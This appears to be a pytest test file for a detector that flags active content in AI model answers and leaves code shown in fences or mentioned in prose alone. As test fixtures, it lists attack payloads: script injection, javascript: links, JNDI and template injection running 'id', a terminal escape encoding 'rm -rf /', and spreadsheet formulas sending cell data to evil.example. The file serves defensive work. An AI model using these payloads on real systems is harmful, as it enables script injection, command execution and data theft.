"""Active content in answers, beside code that is only shown and prose that only speaks of it."""

import pytest

from redoubt.domain.exchange import Role, Segment, Syntax, Trust
from redoubt.domain.finding import Finding
from redoubt.engine.effects.active import ActiveContentDetector

DETECTOR = ActiveContentDetector()


def found(text: str, role: Role = Role.ASSISTANT, syntax: Syntax = Syntax.PLAIN) -> tuple[Finding, ...]:
    return DETECTOR.detect(Segment(text, role, Trust.MODEL, "", syntax))


ACTIVE = [
    ("«<script>alert(1)</script>»", "active-element"),
    ("Hi «<script src=//evil.example/x.js>» there", "active-element"),
    ("«<ScRiPt >alert(1)</sCrIpT>»", "active-element"),
    ("«<img src=x onerror=alert(1)>»", "active-handler"),
    ("«<svg/onload=alert(1)>»", "active-handler"),
    ("«<body onload='go()'>»", "active-handler"),
    ('«<a href=# onclick="steal()">»x</a>', "active-handler"),
    ('«<iframe src="https://evil.example"></iframe>»', "active-element"),
    ('«<object data="x.swf"></object>»', "active-element"),
    ('«<meta http-equiv="refresh" content="0;url=https://evil.example">»', "active-refresh"),
    ('«<form action="https://evil.example">»', "active-element"),
    ("«[click](javascript:alert(1))»", "active-address"),
    ("«[click](JaVaScRiPt:alert(1))»", "active-address"),
    ("«[click](data:text/html;base64,PHNjcmlwdD4=)»", "active-address"),
    ('«<a href="javascript:alert(1)">»x</a>', "active-address"),
    ("«[https://bank.example](https://evil.example/login)»", "active-disguise"),
    ("Now run «DROP TABLE users;» and all is well.", "active-sql"),
    ("«DELETE FROM orders WHERE id = 4;»", "active-sql"),
    ("«UPDATE accounts SET balance = 0 WHERE owner = 'x';»", "active-sql"),
    ("«INSERT INTO admins (name) VALUES ('x');»", "active-sql"),
    ("«GRANT ALL PRIVILEGES ON db.* TO eve»", "active-sql"),
    ("«{{ config.items() }}»", "active-template"),
    ("«{{7*7}}»", "active-template"),
    ("«{{''.__class__.__mro__}}»", "active-template"),
    ("«${jndi:ldap://evil.example/a}»", "active-template"),
    ("«${T(java.lang.Runtime).getRuntime().exec('id')}»", "active-template"),
    ("«<%= system('id') %>»", "active-template"),
    ("«\x1b]52;c;cm0gLXJmIC8=\x07»", "active-terminal"),
    ("«\x1b[2J»", "active-terminal"),
    ("«\x1b]8;;https://evil.example\x1b\\»x", "active-terminal"),
    ("name,total\nann,«=cmd|' /C calc'!A0»", "active-formula"),
    ('a,b\n«=HYPERLINK("https://evil.example?x="&A1,"ok")»', "active-formula"),
    ("«@SUM(1+1)*cmd|' /C calc'!A0»", "active-formula"),
    ('«=IMPORTXML(CONCAT("https://evil.example/?v=",A1),"//a")»', "active-formula"),
]

INERT = [
    "Use `<script>` to add JavaScript.",
    "```html\n<script>alert(1)</script>\n```",
    "~~~\n<iframe src=x></iframe>\n~~~",
    "```sql\nDROP TABLE users;\n```",
    "- first\n  ```bash\n  rm -rf build\n  ```\n",
    "Text <b>bold</b> and <br> a break, <img src='a.png'> too.",
    "If a < b and c > d then x.",
    "I will delete from the list what you do not need.",
    "Update your settings and set the alarm.",
    "Please insert into the form the values you know.",
    "Drop table tennis, take up chess.",
    "We grant you access on Monday to the archive.",
    "Dear {{ first_name }}, your order ${order_id} is ready.",
    "Hello {{name}}",
    "The price is ${price}.",
    "See [our site](https://acme.example/) and [docs](https://docs.acme.example).",
    "[acme.example](https://www.acme.example/start)",
    "[https://acme.example](https://acme.example/?a=1)",
    "a,b,c\n1,2,3\n=5,6",
    "- one\n- two = 2\n+ three",
    "=SUM(A1:A9)",
    "Write =SUM(A1:A9) into the cell.",
    "I say: 100% <guaranteed>.",
    "Use onclick = handler in the component.",
    "x = {'a': {'b': 1}}",
    "The set {{1, 2}, {3}} has two members.",
    "The function f(x) = 2*x doubles.",
    "@ann please call (555)",
    "The command `rm -rf build` removes the folder.",
]


@pytest.mark.parametrize(("marked", "rule"), ACTIVE, ids=[m for m, _ in ACTIVE])
def test_what_acts_is_found_with_its_span(marked: str, rule: str) -> None:
    start, end = marked.index("«"), marked.index("»") - 1
    findings = found(marked.replace("«", "").replace("»", ""))
    assert (rule, start, end) in {(f.rule, f.start, f.end) for f in findings}
    assert max(f.confidence for f in findings) >= 0.7


@pytest.mark.parametrize("text", INERT)
def test_what_is_shown_or_spoken_of_is_not(text: str) -> None:
    assert not [f for f in found(text) if f.confidence >= 0.5]


def test_a_fence_that_is_not_closed_holds_the_rest() -> None:
    assert not found("```html\n<script>alert(1)</script>")


def test_behind_a_closed_fence_markup_is_markup_again() -> None:
    assert found("```html\nx\n```\n<script>alert(1)</script>")


def test_a_shorter_fence_does_not_close_a_longer_one() -> None:
    assert not found("````\n```\n<script>alert(1)</script>\n````")


def test_a_terminal_reads_escapes_inside_a_fence_too() -> None:
    assert found("```\n\x1b]52;c;cm0=\x07\n```")


def test_references_are_read_as_a_browser_would() -> None:
    assert found("<a href='java&#115;cript:alert(1)'>x</a>")


def test_a_tool_that_writes_a_page_may_be_given_markup_but_no_escapes() -> None:
    assert not found('{"page": "<script>go()</script>"}', Role.TOOL_CALL, Syntax.JSON)
    assert found('{"text": "\\u001b]52;c;cm0=\\u0007"}', Role.TOOL_CALL, Syntax.JSON)
    assert found('{"query": "DELETE FROM users WHERE 1=1"}', Role.TOOL_CALL, Syntax.JSON)


@pytest.mark.parametrize("trust", [Trust.USER, Trust.EXTERNAL, Trust.OPERATOR])
def test_only_what_a_model_writes_is_looked_at(trust: Trust) -> None:
    assert not DETECTOR.detect(Segment("<script>alert(1)</script>", Role.USER, trust))
